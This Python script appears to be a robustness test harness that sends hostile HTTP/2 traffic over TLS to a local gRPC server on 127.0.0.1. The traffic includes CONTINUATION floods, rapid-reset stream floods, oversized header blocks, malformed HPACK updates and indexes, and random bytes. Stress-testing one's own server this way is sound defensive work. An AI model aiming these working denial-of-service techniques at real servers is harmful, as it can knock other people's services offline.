#!/usr/bin/python3
"""Hostile HTTP/2 traffic at the frame level, over TLS to 127.0.0.1:PORT, one attack per
connection (the server may close a connection it finds broken; that is its right):

  continuation  HEADERS without END_HEADERS, then 10,000 CONTINUATION frames
  bigblock      one header block of 1 MiB (a literal header), in 16 KiB CONTINUATIONs
  sizeupdate    an HPACK dynamic table size update after a header field (out of order)
  badindex      indexed header fields far past the static and dynamic tables
  rapidreset    streams opened and reset at once, N of them (HEADERS + RST_STREAM)
  garbage       the connection preface, then random bytes
  bytesplit     a valid gRPC request (Fast) written one byte per TLS record

Prints one line per attack: "ATTACK sent BYTES bytes, server answered BYTES bytes".

usage: frames.py PORT ATTACK [N]
"""
import random
import socket
import ssl
import struct
import sys

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def connect(port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
    sock.settimeout(5)
    return sock


def request_block(path=b"/latscope.example.Echo/Fast", extra=()):
    enc = hpack.Encoder()
    return enc.encode([(b":method", b"POST"), (b":scheme", b"https"), (b":path", path),
                       (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"),
                       (b"te", b"trailers")] + list(extra))


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    return bytes(out + [value])


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman coding."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def grpc_empty():
    return b"\x00\x00\x00\x00\x00"


def drain(sock):
    """Read what the server sends until it closes or goes quiet; returns the byte count."""
    got = 0
    try:
        while True:
            b = sock.recv(65536)
            if not b:
                break
            got += len(b)
    except (socket.timeout, ssl.SSLError, OSError):
        pass
    return got


def send(sock, data):
    try:
        sock.sendall(data)
    except (ssl.SSLError, OSError):
        return 0
    return len(data)


def attack(port, name, n):
    sock = connect(port)
    sent = send(sock, PREFACE + frame(SETTINGS, 0, 0))
    if name == "continuation":
        block = request_block()
        sent += send(sock, frame(HEADERS, 0, 1, block[:8]))
        piece = frame(CONTINUATION, 0, 1, b"\x00")
        for _ in range(n // 100):
            sent += send(sock, piece * 100)
        sent += send(sock, frame(CONTINUATION, END_HEADERS, 1, block[8:]))
    elif name == "bigblock":
        block = request_block() + literal(b"x-big", b"a" * (1 << 20))
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        # Frame by frame, as far as the server reads them.
        if send(sock, frame(HEADERS, 0, 1, chunks[0])):
            sent += 9 + len(chunks[0])
            for i, c in enumerate(chunks[1:], 1):
                part = send(sock, frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, c))
                if not part:
                    break
                sent += part
    elif name == "sizeupdate":
        # An indexed field (:method GET), then a dynamic table size update to 0: not allowed after a field.
        sent += send(sock, frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x82\x20" + request_block()))
    elif name == "badindex":
        # Indexed header fields 1000 and 2^20 (7-bit prefix integers), past any table.
        sent += send(sock, frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xe9\x07" + b"\xff\x81\xff\x3f"))
    elif name == "rapidreset":
        # Servers end a connection that resets too much (nghttp2 does): go on, on new ones, until n streams are out.
        block = request_block()
        done = 0
        while done < n:
            batch = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
                             for i in range(done % 50000, done % 50000 + 500))
            if send(sock, batch):
                sent += len(batch)
                done += 500
                continue
            sock.close()
            sock = connect(port)
            sent += send(sock, PREFACE + frame(SETTINGS, 0, 0))
    elif name == "garbage":
        # The same bytes every run (a seeded generator): what the walk makes of them does not vary.
        sent += send(sock, random.Random(1).randbytes(64 * 1024))
    elif name == "bytesplit":
        msg = frame(HEADERS, END_HEADERS, 1, request_block()) + frame(DATA, END_STREAM, 1, grpc_empty())
        for i in range(len(msg)):
            sent += send(sock, msg[i:i + 1])
    else:
        sys.exit(f"frames.py: unknown attack {name}")
    got = drain(sock)
    sock.close()
    print(f"{name} sent {sent} bytes, server answered {got} bytes", flush=True)


def main():
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    attack(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 10000)


if __name__ == "__main__":
    main()
